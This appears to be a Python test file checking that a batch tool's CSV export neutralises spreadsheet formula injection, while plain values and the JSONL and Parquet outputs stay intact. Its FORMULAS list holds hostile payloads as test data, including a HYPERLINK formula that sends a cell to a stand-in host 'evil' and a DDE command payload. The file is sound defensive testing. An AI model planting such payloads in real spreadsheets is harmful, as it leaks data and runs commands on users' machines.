"""A table that is opened in a spreadsheet computes nothing that a model or a stranger wrote."""

from __future__ import annotations

import csv
import io
import json
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from artificer_provider.batch.cells import as_cell
from artificer_provider.cli._rows import RowFormat
from artificer_provider.cli._rows import written as written_by_command
from artificer_provider.client.models.batch import BatchJobResult
from artificer_provider.operators._formats import COLUMNS, Format, written

if TYPE_CHECKING:
    from collections.abc import Iterator

FORMULAS = (
    '=HYPERLINK("http://evil/?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\uff1d1+1",
    "-",
    "-5 apples",
)
PLAIN = ("-5", "+3.5", "-1e9", "a = b", "'=1", " =1", "", "e-mail", "\u2212 5")


def landed(form: Format, text: str) -> bytes:
    record: dict[str, Any] = {
        "index": 0,
        "status": "succeeded",
        "input": text,
        "metadata": {text: text},
        "output": text,
        "phase_outputs": {"p": text},
        "phase_models": None,
        "error": text,
        "cost": -0.5,
        "tokens": -5,
    }
    file = io.BytesIO()
    written(form, [record], file)
    return file.getvalue()


def cells(table: str) -> Iterator[str]:
    _, *rows = csv.reader(io.StringIO(table, newline=""))
    for row in rows:
        yield from row


def is_harmless(cell: str) -> bool:
    """Tell it as a spreadsheet would: a number is one, and only the first sign makes a formula."""
    try:
        float(cell)
    except ValueError:
        return cell[:1] not in set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
    return True


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_that_is_landed_or_printed_begins_a_formula(text: str) -> None:
    row = BatchJobResult.model_validate(
        {"itemIndex": 0, "input": text, "status": "COMPLETED", "output": text, "metadata": {text: text}}
    )
    for table in (landed(Format.CSV, text).decode(), "".join(written_by_command([row], RowFormat.CSV))):
        found = list(cells(table))
        assert f"'{text}" in found
        assert all(map(is_harmless, found)), found


@given(st.text(max_size=20))
def test_no_text_whatsoever_begins_one_and_none_is_lost(text: str) -> None:
    cell = as_cell(text)
    assert isinstance(cell, str)
    assert is_harmless(cell)
    assert cell.removeprefix("'") in (text, text.removeprefix("'"))
    assert as_cell(cell) == cell, "written again, it would be another"


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    found = list(cells(landed(Format.CSV, text).decode()))
    assert text in found
    assert f"'{text}" not in found
    assert {"-0.5", "-5"} <= set(found)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_no_spreadsheet_opens_by_itself_keeps_each_text(text: str) -> None:
    parquet = pytest.importorskip("pyarrow.parquet")
    line = json.loads(landed(Format.JSONL, text))
    assert (line["input"], line["output"], line["metadata"]) == (text, text, {text: text})
    table = parquet.read_table(io.BytesIO(landed(Format.PARQUET, text))).to_pylist()
    assert table[0]["output"] == text
    assert set(COLUMNS) == set(table[0])
